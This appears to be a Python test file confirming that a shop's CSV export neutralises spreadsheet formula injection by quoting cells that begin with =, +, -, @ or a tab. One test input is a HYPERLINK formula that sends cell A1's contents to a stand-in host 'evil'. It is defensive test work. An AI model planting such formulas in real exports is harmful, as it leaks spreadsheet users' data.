"""CSV exports hold shop-supplied text (names, emails): a cell a spreadsheet would run as a formula is made inert."""

from __future__ import annotations

import csv
import io

from db.queries.export import csv_chunks


def parsed(chunks) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(chunks))))


def test_text_that_starts_like_a_formula_gets_a_leading_quote():
    rows = [('=HYPERLINK("https://evil/?"&A1,"x")', "+1", "-2", "@SUM(A1)", "\tx", "Ann", -5, 129.0, None)]
    assert parsed(csv_chunks(["a"] * 9, rows))[1] == [
        '\'=HYPERLINK("https://evil/?"&A1,"x")',
        "'+1",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
        "Ann",
        "-5",  # numbers are written as numbers
        "129.0",
        "",
    ]


def test_verbatim_columns_are_written_as_they_are():
    assert parsed(csv_chunks(["Code", "Name"], [("=CODE-1", "=x")], verbatim=(0,)))[1] == ["=CODE-1", "'=x"]
